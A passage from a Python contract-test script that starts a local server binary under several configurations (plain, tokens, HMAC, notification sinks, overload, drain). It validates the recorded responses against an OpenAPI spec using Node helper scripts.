        if not shutil.which(tool):
            print(f"FAIL {tool} is not installed (apt-get install nodejs npm)")
            print("0 passed, 1 failed")
            return 1
    if not os.path.isdir(os.path.join(CONTRACT, "node_modules")):
        p = node_step(["npm", "ci", "--prefix", CONTRACT, "--no-audit", "--no-fund"], "npm ci")
        if not T.check(p.returncode == 0, "npm ci --prefix tests/contract"):
            print(f"{T.passed} passed, {T.failed} failed")
            return 1
    T.check(node_step(["node", "selftest.mjs"], "selftest").returncode == 0, "contract checkers' self-test")
    T.check(node_step(["node", "validate-spec.mjs", SPEC], "validate-spec").returncode == 0, "validate-spec openapi.yaml")

    if not os.access(BIN, os.X_OK):
        T.check(False, "REPOEXFIL_BIN", f"{BIN} is not an executable")
        print(f"{T.passed} passed, {T.failed} failed")
        return 1

    tmp = tempfile.mkdtemp(prefix="rx-contract-")
    REC = Recorder(os.path.join(tmp, "answers.jsonl"))
    servers = []
    recv = Receiver()

    def start(*args, name):
        try:
            s = start_server(*args, name=name)
        except RuntimeError as e:
            T.check(False, f"start {name}", str(e))
            return None
        servers.append(s)
        return s

    stages = [
        ("plain", ["--max-body-bytes", str(MAX_BODY), "--max-events", str(MAX_EVENTS), "--workers", "2"],
         lambda s: (run_main(s), run_examples(s))),
        ("tokens", ["--api-tokens", "tok-old,tok-new", "--allow-query-token"], run_tokens),
        ("hmac", ["--hmac-secret", "s3cret-key"], run_hmac),
        ("both", ["--api-tokens", "tok-1", "--hmac-secret", "s3cret-key"], run_both),
        ("sinks", ["--slack-webhook-url", f"http://127.0.0.1:{recv.port}/slack",
                   "--pagerduty-routing-key", "R0123456789abcdef0123456789abcd0",
                   "--pagerduty-url", f"http://127.0.0.1:{recv.port}/pd-bad",
                   "--webhook-url", f"http://127.0.0.1:{recv.port}/hook"], lambda s: run_sinks(s, recv)),
        ("one-slot", ["--workers", "1", "--queue-depth", "1", "--max-body-bytes", str(64 << 20)], run_overload),
        ("drain", ["--max-body-bytes", str(64 << 20), "--drain-seconds", "60"], run_drain),
    ]
    try:
        for name, args, run in stages:
            s = start(*args, name=name)
            if s is None:
                continue
            try:
                run(s)
            except Exception:  # a bug here must not hide the other stages
                T.check(False, f"{name}: the stage ran to its end", traceback.format_exc())
    finally:
        for s in servers:
            if s.proc.poll() is None or s.name != "drain":
                stop_server(s)
        recv.close()
        REC.close()

    print(f"validating {REC.count} recorded answers against the contract", flush=True)
    p = subprocess.run(["node", "validate-responses.mjs", REC.path, "--spec", SPEC, "--coverage"],
                       cwd=CONTRACT, capture_output=True, text=True, timeout=600)
    out = p.stdout.strip().splitlines()
    for line in out[:-1]:
        print(line)
    last = out[-1] if out else ""
    try:
        vp, vf = [int(x.split()[0]) for x in last.split(",")]
    except (ValueError, IndexError):
        vp, vf = 0, 1
        print(f"FAIL validate-responses: unexpected output {last!r} {p.stderr.strip()}")
    print(f"contract: {vp} answers valid, {vf} invalid", flush=True)
    T.passed += vp
    T.failed += vf
    if p.returncode != 0 and vf == 0:
        T.check(False, "validate-responses exit status", str(p.returncode))

    if T.failed and os.environ.get("RX_CONTRACT_KEEP") != "0":
        print(f"recorded answers kept in {REC.path}")
    elif os.environ.get("RX_CONTRACT_KEEP") == "1":
        print(f"recorded answers kept in {REC.path}")
    else:
        shutil.rmtree(tmp, ignore_errors=True)
    print(f"{T.passed} passed, {T.failed} failed" + (f", {T.skipped} skipped" if T.skipped else ""))
    return 1 if T.failed else 0


if __name__ == "__main__":
    sys.exit(main())
